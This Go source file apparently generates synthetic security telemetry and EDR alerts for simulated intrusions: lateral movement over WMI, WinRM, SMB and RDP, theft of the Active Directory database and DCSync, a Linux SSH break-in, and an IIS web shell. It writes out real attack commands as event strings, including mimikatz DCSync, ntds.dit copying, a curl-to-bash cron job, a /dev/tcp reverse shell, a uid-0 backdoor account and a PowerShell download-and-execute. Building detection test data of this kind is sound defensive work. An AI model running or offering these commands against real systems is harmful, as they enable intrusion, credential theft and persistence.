package telemetry

import "time"

// Lateral movement from the intrusion's workstation to servers with the remote execution methods of
// ATT&CK's Remote Services (T1021) and WMI (T1047): each leaves the client's process and connection, the
// server's network logon and inbound connection, and the process the server's service starts for it.

// remoteLogon records the destination's side of a remote session: the network (or RDP) logon from src.
func (g *generator) remoteLogon(dst, src *device, u *account, ts int64, logonType string, proto string) int64 {
	dst.logonIDs += 1 + int64(g.activity.IntN(5000))
	id := dst.logonIDs
	g.logonEx(dst, ts, logonEvent{action: "LogonSuccess", logonType: logonType, acct: u, from: src, logonID: id, p: dst.lsass, protocol: proto})
	g.identityLogon(ts, "LogonSuccess", "Kerberos", u, src, dst)
	return id
}

func (g *generator) lateralTechniques(src *device, t int64) {
	u := g.w.helpdesk
	shell := g.spawn(src, g.sessionProc(src, t), iCmd, `cmd.exe /c`, src.owner, t)
	ps := g.spawn(src, g.sessionProc(src, t), iPowershell, `powershell.exe -nop -ep bypass`, src.owner, t+int64(sec))
	targets := g.w.hosts()
	pickSrv := func(i int) *device {
		for k := range targets {
			d := targets[(i+k)%len(targets)]
			if d.os.family == "windows" && d != src {
				return d
			}
		}
		return targets[0]
	}
	var ev []evidence
	// WMI: wmic /node starts a process through WmiPrvSE on the server.
	dst := pickSrv(2)
	ts := t + int64(5*mins)
	p := g.spawnImage(src, shell, g.stepImage(src, "WMIC.exe", nil), `wmic /node:`+dst.name+` /user:CONTOSO\helpdesk process call create "cmd.exe /c C:\Windows\Temp\t.exe"`, src.owner, ts)
	g.toolConnect(src, p, ts+int64(sec), peer{host: dst.name, ip: dst.ip, port: 135, proto: "Tcp"})
	g.remoteLogon(dst, src, u, ts+int64(2*sec), "Network", "Kerberos")
	wmi := g.newProc(dst, dst.svchost[0], iWmiPrvSE, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, g.w.netSvc, ts-int64(hour))
	rc := g.spawn(dst, wmi, iCmd, `cmd.exe /c C:\Windows\Temp\t.exe`, u, ts+int64(3*sec))
	g.devEvent(dst, wmi, ts+int64(3*sec), "RemoteWmiOperation", func(r *row) {
		r.additional = `{"Namespace":"root\\cimv2","RemoteClientIP":"` + src.ip + `","Operation":"ExecMethod Win32_Process::Create"}`
	})
	g.devEvent(dst, wmi, ts+int64(3*sec), "ProcessCreatedUsingWmiQuery", func(r *row) { r.file, r.proc = rc.img, rc })
	ev = append(ev, evidence{entityType: "Process", role: "Related", dev: src, proc: p, file: p.img}, evidence{entityType: "Machine", role: "Impacted", dev: dst})
	// WinRM: Invoke-Command runs in wsmprovhost.exe on the server.
	dst = pickSrv(3)
	ts += int64(20 * mins)
	p = g.spawn(src, ps, iPowershell, `powershell.exe -c "Invoke-Command -ComputerName `+dst.name+` -ScriptBlock { whoami /groups; Get-Process lsass }"`, src.owner, ts)
	g.toolConnect(src, p, ts+int64(sec), peer{host: dst.name, ip: dst.ip, port: 5985, proto: "Tcp"})
	g.remoteLogon(dst, src, u, ts+int64(2*sec), "Network", "Kerberos")
	wsm := g.spawnImage(dst, dst.svchost[0], sysExe("wsmprovhost.exe", "Host process for WinRM plug-ins").resolve(""), `C:\Windows\system32\wsmprovhost.exe -Embedding`, u, ts+int64(3*sec))
	g.spawn(dst, wsm, iWhoami, `"C:\Windows\system32\whoami.exe" /groups`, u, ts+int64(4*sec))
	ev = append(ev, evidence{entityType: "Process", role: "Related", dev: dst, proc: wsm, file: wsm.img})
	// SMB admin share: a tool copied over C$ and a remote scheduled task runs it.
	dst = pickSrv(4)
	ts += int64(20 * mins)
	g.spawn(src, shell, iNet, `net use \\`+dst.name+`\C$ /user:CONTOSO\helpdesk ********`, src.owner, ts)
	g.toolConnect(src, shell, ts+int64(sec), peer{host: dst.name, ip: dst.ip, port: 445, proto: "Tcp"})
	g.remoteLogon(dst, src, u, ts+int64(2*sec), "Network", "Ntlm")
	cp := g.spawn(src, shell, iCmd, `cmd.exe /c copy C:\Users\Public\t.exe \\`+dst.name+`\C$\Windows\Temp\svcupd.exe`, src.owner, ts+int64(10*sec))
	dropped := dataFile(`C:\Windows\Temp\svcupd.exe`, "intrusion|svcupd", 52_224)
	kernel := &proc{img: dst.images[iSystem], pid: 4, created: dst.bootTime, acct: g.w.system, integrity: "System"}
	g.fileEvent(dst, kernel, ts+int64(11*sec), "FileCreated", dropped, func(r *row) {
		r.shareName, r.requestIP, r.requestProtocol, r.acct = "C$", src.ip, "Smb", u
	})
	st := g.spawn(src, shell, iSchtasks, `schtasks /create /s `+dst.name+` /ru SYSTEM /tn "\Microsoft\Windows\Maintenance\svcupd" /tr C:\Windows\Temp\svcupd.exe /sc once /st 23:59 /f`, src.owner, ts+int64(20*sec))
	g.devEvent(dst, dst.svchost[1], ts+int64(21*sec), "ScheduledTaskCreated", func(r *row) {
		r.additional = `{"TaskName":"\\Microsoft\\Windows\\Maintenance\\svcupd","TaskContent":"C:\\Windows\\Temp\\svcupd.exe"}`
		r.acct = u
	})
	g.spawnImage(dst, dst.svchost[1], dropped, `C:\Windows\Temp\svcupd.exe`, g.w.system, ts+int64(2*mins))
	ev = append(ev, evidence{entityType: "Process", role: "Related", dev: src, proc: cp, file: cp.img}, evidence{entityType: "Process", role: "Related", dev: src, proc: st, file: st.img}, evidence{entityType: "File", role: "Related", dev: dst, file: dropped})
	// RDP with the stolen admin password.
	dst = pickSrv(5)
	ts += int64(30 * mins)
	m := g.spawn(src, g.sessionProc(src, ts), iMstsc, `"C:\Windows\system32\mstsc.exe" /v:`+dst.name, src.owner, ts)
	g.toolConnect(src, m, ts+int64(sec), peer{host: dst.name, ip: dst.ip, port: 3389, proto: "Tcp"})
	id := g.remoteLogon(dst, src, u, ts+int64(5*sec), "RemoteInteractive", "Negotiate")
	ex := g.newProc(dst, dst.winlogon, iExplorer, `C:\Windows\Explorer.EXE`, u, ts+int64(8*sec))
	ex.logonID, ex.remoteFrom = id, src
	g.spawnImage(dst, ex, sysExe("rdpclip.exe", "RDP Clipboard Monitor").resolve(""), `rdpclip`, u, ts+int64(9*sec))
	tm := g.spawnImage(dst, ex, sysExe("Taskmgr.exe", "Task Manager").resolve(""), `"C:\Windows\system32\taskmgr.exe" /4`, u, ts+int64(2*mins))
	ev = append(ev, evidence{entityType: "Process", role: "Related", dev: dst, proc: tm, file: tm.img})
	g.raise(ts+int64(3*mins), srcMDE, "EDR", "Lateral movement using remote execution", "LateralMovement", "High",
		[]string{"Windows Management Instrumentation (T1047)", "Windows Remote Management (T1021.006)", "SMB/Windows Admin Shares (T1021.002)", "Scheduled Task (T1053.005)", "Remote Desktop Protocol (T1021.001)"},
		append([]evidence{{entityType: "Machine", role: "Impacted", dev: src}, {entityType: "User", role: "Related", dev: src, acct: u}}, ev...)...)
}

// domainControllerTheft: from an admin session on the domain controller the operator copies the AD
// database through a shadow copy and with ntdsutil IFM, and replicates secrets (DCSync).
func (g *generator) domainControllerTheft(t int64) {
	dc := g.w.dc
	if dc.os.family != "windows" {
		return
	}
	u := g.w.helpdesk
	ex := g.sessionProc(dc, t)
	ex.acct = u
	sh := g.spawn(dc, ex, iCmd, `"C:\Windows\system32\cmd.exe" `, u, t)
	v := g.spawn(dc, sh, iVssadmin, `vssadmin create shadow /for=C:`, u, t+int64(mins))
	cp := g.spawn(dc, sh, iCmd, `cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\Windows\Temp\ntds.dit`, u, t+int64(2*mins))
	ntds := dataFile(`C:\Windows\Temp\ntds.dit`, "ntds-copy", 50_331_648)
	g.fileEvent(dc, cp, t+int64(2*mins+5*sec), "FileCreated", ntds, nil)
	g.spawn(dc, sh, iReg, `reg save HKLM\SYSTEM C:\Windows\Temp\SYSTEM.hiv`, u, t+int64(3*mins))
	ifm := g.spawnImage(dc, sh, g.stepImage(dc, "ntdsutil.exe", nil), `ntdsutil "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q`, u, t+int64(5*mins))
	g.fileEvent(dc, ifm, t+int64(6*mins), "FileCreated", dataFile(`C:\Windows\Temp\ifm\Active Directory\ntds.dit`, "ntds-ifm", 50_331_648), nil)
	mk := g.spawnImage(dc, sh, attackerTools()["mimikatz.exe"].resolve(""), `C:\Windows\Temp\mimikatz.exe "lsadump::dcsync /domain:contoso.example /user:krbtgt" exit`, u, t+int64(10*mins))
	src := g.w.windowsWorkstations()[len(g.w.windowsWorkstations())/3]
	g.identity("IdentityDirectoryEvents", t+int64(10*mins+sec), "Directory Services replication", u, &identEvent{app: "Active Directory", protocol: "Drsr", src: src, dst: dc, target: &account{name: "krbtgt", domain: netbios, sid: domainSID + "-502", upn: ""},
		additional: map[string]any{"ReplicationType": "GetNCChanges", "ACTOR.ACCOUNT": u.name}})
	g.raise(t+int64(11*mins), srcMDE, "EDR", "Possible theft of the Active Directory database (NTDS.dit)", "CredentialAccess", "High",
		[]string{"NTDS (T1003.003)", "DCSync (T1003.006)"},
		evidence{entityType: "Machine", role: "Impacted", dev: dc},
		evidence{entityType: "User", role: "Related", dev: dc, acct: u},
		evidence{entityType: "Process", role: "Related", dev: dc, proc: v, file: v.img},
		evidence{entityType: "Process", role: "Related", dev: dc, proc: ifm, file: ifm.img},
		evidence{entityType: "Process", role: "Related", dev: dc, proc: mk, file: mk.img},
		evidence{entityType: "File", role: "Related", dev: dc, file: ntds},
	)
	g.raise(t+int64(11*mins+sec), srcMDI, "AzureATP", "Suspected DCSync attack (replication of directory services)", "CredentialAccess", "High",
		[]string{"DCSync (T1003.006)"},
		evidence{entityType: "Machine", role: "Related", dev: src},
		evidence{entityType: "Machine", role: "Impacted", dev: dc},
		evidence{entityType: "User", role: "Impacted", acct: u},
	)
}

// linuxIntrusion: SSH password guessing from the internet succeeds on a Linux server; the intruder pipes
// a script to bash, persists in cron, starts a miner and a reverse shell.
func (g *generator) linuxIntrusion(t int64) {
	var d *device
	for _, x := range g.w.servers {
		if x.os.family == "linux" {
			d = x
			break
		}
	}
	if d == nil {
		return
	}
	attacker := &device{short: "vps-203-0-113-99", ip: "203.0.113.99"}
	for i, n := range []string{"root", "admin", "ubuntu", "test", "oracle", "postgres", "user", "azureuser"} {
		for k := 0; k < 6; k++ {
			g.logonEx(d, t+int64(i*6+k)*int64(4*time.Second), logonEvent{action: "LogonFailed", logonType: "Network", acct: &account{name: n, domain: d.short}, from: attacker, failure: "InvalidUserNameOrPassword", protocol: "Ssh"})
		}
	}
	ts := t + int64(5*mins)
	u := &account{name: "azureuser", domain: d.short}
	root := &account{name: "root", domain: d.short}
	g.logonEx(d, ts, logonEvent{action: "LogonSuccess", logonType: "Network", acct: u, from: attacker, protocol: "Ssh"})
	systemd := &proc{img: d.images[iSystemd], pid: 1, cmd: "/sbin/init", created: d.bootTime, acct: root}
	sshd := g.spawn(d, systemd, iSshd, "sshd: azureuser [priv]", root, ts)
	sh := g.spawn(d, sshd, iBash, "-bash", u, ts+int64(sec))
	lin := func(name, dir string) *file { return dirExe(name, dir, "", "", "", "", "").resolve("") }
	steps := []struct {
		img  *file
		cmd  string
		acct *account
	}{
		{lin("id", "/usr/bin"), "id", u}, {lin("uname", "/usr/bin"), "uname -a", u}, {lin("cat", "/usr/bin"), "cat /etc/passwd", u},
		{lin("sudo", "/usr/bin"), "sudo su -", u}, {lin("cat", "/usr/bin"), "cat /etc/shadow", root},
		{d.images[iCurl], "curl -fsSL http://198.51.100.23/x.sh -o /tmp/x.sh", root},
		{lin("bash", "/usr/bin"), "bash /tmp/x.sh", root},
		{lin("chmod", "/usr/bin"), "chmod +x /tmp/.X11-unix/kworkerds", root},
		{lin("crontab", "/usr/bin"), `crontab -l | { cat; echo "*/10 * * * * curl -fsSL http://198.51.100.23/x.sh | bash"; } | crontab -`, root},
		{lin("useradd", "/usr/sbin"), "useradd -o -u 0 -g 0 -M -s /bin/bash sysupdate", root},
		{lin("bash", "/usr/bin"), "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", root},
		{attackerTools()["xmrig"].resolve(""), "/tmp/.X11-unix/kworkerds -o pool.minexmr.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -p x --donate-level 1", root},
		{lin("history", "/usr/bin"), "history -c", root},
	}
	var ev []evidence
	for i, s := range steps {
		at := ts + int64(i+1)*int64(40*sec)
		p := g.spawnImage(d, sh, s.img, s.cmd, s.acct, at)
		if len(ev) < 6 {
			ev = append(ev, evidence{entityType: "Process", role: "Related", dev: d, proc: p, file: p.img})
		}
		switch i {
		case 5:
			g.toolConnect(d, p, at+int64(sec), peer{host: "198.51.100.23", ip: "198.51.100.23", port: 80, proto: "Tcp"})
			g.fileEvent(d, p, at+int64(2*sec), "FileCreated", dataFile("/tmp/x.sh", "linux|x.sh", 4_112), func(r *row) { r.originURL = "http://198.51.100.23/x.sh" })
		case 6:
			g.fileEvent(d, p, at+int64(2*sec), "FileCreated", dataFile("/tmp/.X11-unix/kworkerds", "linux|miner", 7_340_032), nil)
		case 8:
			g.fileEvent(d, p, at+int64(sec), "FileModified", dataFile("/var/spool/cron/crontabs/root", "linux|crontab", 412), nil)
		case 10:
			g.toolConnect(d, p, at+int64(sec), peer{host: "198.51.100.23", ip: "198.51.100.23", port: 4444, proto: "Tcp"})
		case 11:
			for k := 0; k < 12; k++ {
				g.toolConnect(d, p, at+int64(k)*int64(5*mins), peer{host: "pool.minexmr.example", ip: "198.51.100.131", port: 3333, proto: "Tcp"})
			}
		}
	}
	g.raise(ts+int64(10*mins), srcMDE, "EDR", "Suspicious SSH sign-in after many failures, followed by a coin miner", "Execution", "High",
		[]string{"Brute Force (T1110)", "Unix Shell (T1059.004)", "Cron (T1053.003)", "Resource Hijacking (T1496)"},
		append([]evidence{{entityType: "Machine", role: "Impacted", dev: d}, {entityType: "Ip", role: "Related", dev: d, remoteIP: attacker.ip}}, ev...)...)
}

// webShell: an unpatched application on the internet-facing web server is exploited (T1190); the IIS
// worker writes an .aspx web shell (T1505.003) and runs commands through cmd.exe for a scanning address.
func (g *generator) webShell(t int64) {
	d := g.w.web
	if d.os.family != "windows" {
		return
	}
	attacker := "203.0.113.145"
	w3wp := g.newProc(d, d.svchost[0], iW3wp, `c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm0d5a -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config" -w "" -m 0`, g.w.netSvc, t-int64(4*hour))
	for i := 0; i < 6; i++ {
		g.connect(d, w3wp, t+int64(i)*int64(sec), "InboundConnectionAccepted", attacker, "", 443)
	}
	shell := dataFile(`C:\inetpub\wwwroot\aspnet_client\system_web\errorEE.aspx`, "webshell|errorEE", 2_841)
	g.fileEvent(d, w3wp, t+int64(8*sec), "FileCreated", shell, nil)
	var ev []evidence
	for i, c := range []struct {
		img int
		cmd string
	}{
		{iCmd, `cmd.exe /c whoami`}, {iWhoami, `whoami`}, {iCmd, `cmd.exe /c "cd /d C:\inetpub\wwwroot\aspnet_client\system_web\&ipconfig /all"`},
		{iIpconfig, `ipconfig /all`}, {iCmd, `cmd.exe /c net group "domain computers" /domain`}, {iNet, `net  group "domain computers" /domain`},
		{iCmd, `cmd.exe /c powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/p.ps1')"`},
	} {
		p := g.spawn(d, w3wp, c.img, c.cmd, g.w.netSvc, t+int64(5*mins)+int64(i)*int64(20*sec))
		ev = append(ev, evidence{entityType: "Process", role: "Related", dev: d, proc: p, file: p.img})
	}
	g.raise(t+int64(8*mins), srcMDE, "EDR", "Possible web shell installation", "Persistence", "High",
		[]string{"Exploit Public-Facing Application (T1190)", "Web Shell (T1505.003)"},
		append([]evidence{{entityType: "Machine", role: "Impacted", dev: d}, {entityType: "File", role: "Related", dev: d, file: shell}, {entityType: "Ip", role: "Related", dev: d, remoteIP: attacker}}, ev...)...)
}
